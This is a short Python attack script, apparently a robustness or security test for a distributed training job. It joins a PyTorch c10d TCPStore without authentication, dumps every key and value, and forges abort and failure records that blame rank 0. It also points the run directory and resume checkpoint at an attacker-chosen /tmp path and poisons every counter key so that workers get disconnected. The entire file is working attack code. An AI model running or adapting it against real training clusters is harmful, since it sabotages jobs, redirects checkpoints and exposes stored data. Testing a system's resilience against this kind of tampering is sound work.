#!/usr/bin/env python3
"""A stranger to a running job who reaches its store (c10d's TCPStore, as torch.distributed connects
to it): lists every key, reads every value, then writes what would steer the job if the ranks
believed it: a verdict of its own in the monitor's abort key and the failure records (blaming rank
0), another run directory and resume in the kv namespace, and a non-number in every key the job
counts (an add on such a key makes the store drop the adder's connection). Prints one JSON line:
the keys and values it read (hex), and what it wrote.

    python3 store_stranger.py HOST PORT [--on-line]

With --on-line it waits for a line on stdin before it connects (torch loaded, it strikes at once).
"""
import datetime
import json
import sys

import torch.distributed as dist

VERDICT = {"rank": 1, "status": "failed", "error": "a stranger wrote this verdict", "cause_rank": 0, "time": 0}
GUESSED = {
    "strata/monitor/abort": json.dumps(VERDICT),
    "strata/monitor/failure/0": json.dumps(dict(VERDICT, rank=0)),
    "strata/monitor/failure/1": json.dumps(VERDICT),
    "strata/kv/run_dir": "/tmp/a-stranger-chose-this",
    "strata/kv/resume": "/tmp/a-stranger-chose-this/checkpoints/step_00000001",
}


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    if "--on-line" in sys.argv[3:]:
        sys.stdin.readline()
    store = dist.TCPStore(host, port, is_master=False, wait_for_workers=False,
                          timeout=datetime.timedelta(seconds=20))
    keys = store.list_keys()
    values = {k: store.get(k).hex() for k in keys}
    written = dict(GUESSED)
    for key in keys:  # the job's keys as listed: counters, heartbeats, progress, barriers
        if key.startswith("strata/") and key not in written:
            written[key] = "not a number"
    for key, value in written.items():
        store.set(key, value)
    print(json.dumps({"keys": keys, "values": values, "written": sorted(written)}))


if __name__ == "__main__":
    main()
